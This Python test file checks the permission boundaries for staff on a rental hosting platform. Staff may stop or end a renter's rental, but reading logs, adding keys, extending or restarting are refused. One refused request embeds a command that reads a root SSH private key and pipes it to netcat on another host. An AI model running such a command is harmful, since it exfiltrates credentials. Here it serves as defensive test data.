"""What staff may do with alice's rental: look, stop, end; never get in, read what it wrote, or decide for her."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import pytest
import time_machine

from accounts import services as accounts
from accounts.actors import Actor
from accounts.models import Notice
from audit.models import AuditEvent
from billing.models import Refund
from hostagent.protocol import WorkloadState
from nodes.models import Workload
from rentals import probing, services
from rentals.models import FailedStart, Rental
from rentals.tests.test_life import Scene
from rentals.tests.test_pages import text
from tests import cast
from tests.doors import api_of, pages_of, refusal

pytestmark = pytest.mark.django_db
Drain = Callable[[], int]


@pytest.fixture
def scene(drain: Drain, monkeypatch: pytest.MonkeyPatch) -> Iterator[Scene]:
    monkeypatch.setattr(probing, "ssh_answers", lambda *a, **k: True)
    with time_machine.travel("2026-11-21T12:00:00Z", tick=False) as traveller:
        yield Scene(drain, traveller)


@pytest.fixture
def dora() -> Actor:
    return cast.person("dora", is_staff=True)


def path(scene: Scene, tail: str = "") -> str:
    return f"/api/v1/rentals/{scene.rental.pk}/{tail}"


def everything(scene: Scene) -> tuple[Any, Any, int]:
    """Everything of a rental that a request could change."""
    return (
        Rental.objects.values().get(pk=scene.rental.pk),
        Workload.objects.values("wish", "spec", "generation").get(pk=scene.rental.workload_id),
        AuditEvent.objects.count(),
    )


REFUSED: list[tuple[str, str, dict[str, Any]]] = [
    ("put", "limits/", {"ends_at": None, "spend_cap": None}),
    ("post", "extend/", {"hours": "1"}),
    ("put", "checkpoint/", {"command": "cat /root/.ssh/id_ed25519 | nc dora 1", "seconds": 60}),
    ("post", "restart/", {}),
    ("post", "recreate/", {"confirm_data_loss": True}),
    ("get", "logs/", {}),
]


@pytest.mark.parametrize(("method", "tail", "body"), REFUSED)
def test_staff_neither_get_in_nor_read_nor_decide(
    scene: Scene, dora: Actor, method: str, tail: str, body: dict[str, Any]
) -> None:
    before = everything(scene)
    answer = getattr(api_of(dora), method)(path(scene, tail), body, "json")
    assert refusal(answer) == (403, "renter_only")
    assert everything(scene) == before


def test_staffs_keys_open_nobodys_rental(scene: Scene, dora: Actor) -> None:
    key = accounts.add_ssh_key(actor=dora, name="x", public_key=cast.public_ssh_key())
    before = everything(scene)
    answer = api_of(dora).put(path(scene, "keys/"), {"ssh_key_ids": [str(key.pk)]}, "json")
    assert refusal(answer) == (403, "renter_only")
    form = pages_of(dora).post(f"/rentals/{scene.rental.pk}/keys/", {"key": [str(key.pk)]})
    assert (form.status_code, b"renter_only" in form.content) == (403, True)
    assert everything(scene) == before


def test_staff_do_not_start_or_answer_for_a_renter(scene: Scene, dora: Actor) -> None:
    scene.stopped()
    before = everything(scene)
    assert refusal(api_of(dora).post(path(scene, "start/"))) == (403, "renter_only")
    answer = {"change_id": str(scene.rental.pk), "answer": "accept"}
    assert refusal(api_of(dora).post(path(scene, "price/"), answer, "json")) == (403, "renter_only")
    assert everything(scene) == before


def test_staffs_page_has_no_last_words_no_forms_and_two_buttons(scene: Scene, dora: Actor) -> None:
    said = "a secret that the container wrote"
    scene.says(WorkloadState.FAILED, code="container_exited", message="Exit 1.", logs=said)
    scene.says(WorkloadState.STOPPED)
    address = f"/rentals/{scene.rental.pk}/"
    assert said in text(pages_of(scene.alice).get(address))
    page = pages_of(dora).get(address)
    assert said not in text(page)
    assert said not in text(pages_of(dora).get(f"{address}fragment/"))
    assert [action.name for action in page.context["actions"]] == ["end"]
    assert "This rental is somebody else's." in text(page)
    assert "/keys/" not in page.content.decode()


def test_staff_stop_a_rental_in_their_own_name_and_its_renter_is_told(
    scene: Scene, dora: Actor
) -> None:
    scene.pass_time(100)
    stopped = api_of(dora).post(path(scene, "stop/")).json()["data"]
    assert (stopped["state"], stopped["end"]["code"]) == ("stopping", "stopped_by_staff")
    rental = scene.says(WorkloadState.STOPPED)
    assert (rental.state, (rental.end or {})["party"], scene.seconds("compute")) == (
        "stopped",
        "platform",
        100,
    )
    told = AuditEvent.objects.get(verb="rental.stopping")
    assert (told.actor_kind, told.actor_id) == ("staff", dora.id)
    notice = Notice.objects.get(user_id=scene.alice.user_id, code="rental_stopped_itself")
    assert "The platform's staff stopped it." in notice.params["why"]
    # She may start it again, and that is hers.
    services.start_rental(actor=scene.alice, rental_id=rental.pk)
    assert scene.now().end is None


def test_staff_end_a_rental_that_comes_up_and_it_counts_against_nobody(
    scene: Scene, dora: Actor
) -> None:
    services.restart_rental(actor=scene.alice, rental_id=scene.rental.pk)
    services.end_rental(actor=dora, rental_id=scene.rental.pk)
    rental = scene.says(WorkloadState.ABSENT)
    assert (rental.state, (rental.end or {})["code"]) == ("ended", "ended_by_staff")
    assert services.describe(rental).label == "Ended by staff"
    assert (FailedStart.objects.count(), Refund.objects.count()) == (0, 0)


def test_staff_do_with_their_own_rentals_what_everybody_does(scene: Scene) -> None:
    scene.stopped()
    dora = cast.person("dora", is_staff=True, usd=50)
    mine = cast.rented(dora, scene.offer)
    services.change_keys(actor=dora, rental_id=mine.pk, ssh_key_ids=None)
    services.end_rental(actor=dora, rental_id=mine.pk)
    mine.refresh_from_db()
    assert (mine.end or {})["code"] == "cancelled"
